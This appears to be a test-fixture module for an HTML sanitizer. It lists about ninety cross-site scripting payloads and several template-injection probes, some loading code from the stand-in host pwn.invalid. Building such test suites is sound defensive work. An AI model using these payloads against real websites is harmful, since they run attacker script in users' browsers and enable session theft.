@@ -1,0 +1,105 @@
+// What attackers write where text belongs. Each calls pwn(), loads something from pwn.invalid, or leaves an element or
+// address behind that would do so on a click; `hostile.mjs` notices all of that, and proves on every payload that it does.
+
+/** Each is tried alone at every place. */
+export const PAYLOADS = [
+  // Scripts.
+  '<script>pwn()</script>',
+  '<ScRiPt >pwn()</sCrIpT >',
+  '<script src=//pwn.invalid/1.js></script>',
+  '<<script>pwn();//<</script>',
+  '<script\t>pwn()</script\n>',
+  '<script type=module>pwn()</script>',
+  '<svg><script>pwn()</script></svg>',
+  '<svg><script href="data:text/javascript,pwn()"/></svg>',
+  // Handlers of elements that fail, load or take the focus by themselves.
+  '<img src=x onerror=pwn()>',
+  '<IMG SRC="x" OnErRoR="pwn()">',
+  '<img/src=x/onerror=pwn()>',
+  '<img src=x onerror=pwn() ',
+  '<img src=x onerror=&#112;wn()>',
+  '<img srcset=x onerror=pwn()>',
+  '<svg onload=pwn()>',
+  '<svg/onload="pwn()">',
+  '<svg><animate onbegin=pwn() attributeName=x dur=1s>',
+  '<svg><image href=x onerror=pwn()></svg>',
+  '<body onload=pwn()>',
+  '<video><source onerror=pwn()></video>',
+  '<audio src=x onerror=pwn()></audio>',
+  '<input autofocus onfocus=pwn()>',
+  '<textarea autofocus onfocus=pwn()></textarea>',
+  '<details open ontoggle=pwn()>x</details>',
+  '<p id=pwned tabindex=1 onfocusin=pwn() contenteditable autofocus>x</p>',
+  '<made-up onpointerenter=pwn()>x</made-up>',
+  '<link rel=stylesheet href=//pwn.invalid/2.css onerror=pwn()>',
+  // Documents in documents.
+  '<iframe src="javascript:parent.pwn()"></iframe>',
+  '<iframe srcdoc="<script>parent.pwn()</script>"></iframe>',
+  '<iframe srcdoc="&lt;img src=x onerror=parent.pwn()&gt;"></iframe>',
+  '<object data="javascript:pwn()"></object>',
+  '<object data="data:text/html,<script>parent.pwn()</script>"></object>',
+  '<embed src="javascript:pwn()">',
+  // Addresses that are programs.
+  '<a href="javascript:pwn()">x</a>',
+  '<a href="JaVaScRiPt:pwn()">x</a>',
+  '<a href="java&#09;script:pwn()">x</a>',
+  '<a href="&#x6A;avascript&colon;pwn()">x</a>',
+  '<a href="\u0001javascript:pwn()">x</a>',
+  '<a href="data:text/html,<script>pwn()</script>">x</a>',
+  '<a href="vbscript:pwn()">x</a>',
+  '<svg><a xlink:href="javascript:pwn()"><text y=9>x</text></a></svg>',
+  '<form action="javascript:pwn()"><button>x</button></form>',
+  '<form><button formaction="javascript:pwn()">x</button></form>',
+  '<map><area href="javascript:pwn()" shape=default></map>',
+  'javascript:pwn()//',
+  ' \tjavascript:pwn()',
+  // The page led astray.
+  '<base href="//pwn.invalid/">',
+  '<meta http-equiv=refresh content="0;url=//pwn.invalid/">',
+  '<style>@import "//pwn.invalid/3.css";</style>',
+  '<div style="background:url(//pwn.invalid/4.png)">x</div>',
+  '<form action=//pwn.invalid/5><button>x</button></form>',
+  // Out of an attribute, an element, a comment.
+  '"><script>pwn()</script>',
+  "'><script>pwn()</script>",
+  '"><img src=x onerror=pwn()>',
+  '" autofocus tabindex=1 onfocus=pwn() x="',
+  "' autofocus tabindex=1 onfocus=pwn() x='",
+  'x onerror=pwn()',
+  '" onmouseover="pwn()',
+  '</title><script>pwn()</script>',
+  '</textarea><script>pwn()</script>',
+  '</script><script>pwn()</script>',
+  '</style><img src=x onerror=pwn()>',
+  '--><script>pwn()</script>',
+  '--!><img src=x onerror=pwn()>',
+  ']]><script>pwn()</script>',
+  '</mark></a><img src=x onerror=pwn()>',
+  '</template><img src=x onerror=pwn()>',
+  '<template shadowrootmode=open><img src=x onerror=pwn()></template>',
+  // Out of a string of a script.
+  "';pwn();//",
+  '";pwn();//',
+  '</script ><svg onload=pwn()>',
+  // Read differently the second time.
+  '<noscript><p title="</noscript><img src=x onerror=pwn()>">',
+  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=pwn()&gt;">',
+  '<svg></p><style><a id="</style><img src=x onerror=pwn()>">',
+  // Harmless until somebody decodes once too often.
+  '&lt;img src=x onerror=pwn()&gt;',
+  '%3Cimg%20src%3Dx%20onerror%3Dpwn()%3E',
+  '\\u003cimg src=x onerror=pwn()\\u003e',
+  '\uff1cimg src=x onerror=pwn()\uff1e',
+  // Markdown.
+  '[x](javascript:pwn())',
+  '[x](<java\tscript:pwn()>)',
+  '[x](&#106;avascript:pwn())',
+  '[x](data:text/html;base64,PHNjcmlwdD5wd24oKTwvc2NyaXB0Pg==)',
+  '![x](x"onerror="pwn())',
+  '[x](y "z\\" onmouseover=\\"pwn()")',
+  '<javascript:pwn()>',
+];
+
+/** Templates of other engines and of ours: 191 x 7 is nowhere to be read. */
+export const SUMS = ['{{ 191*7 }}', '${191*7}', '#{191*7}', '<%= 191*7 %>', '{% print(191*7) %}', '[[191*7]]', '{{constructor.constructor("pwn()")()}}'];
+export const SUM = '1337';
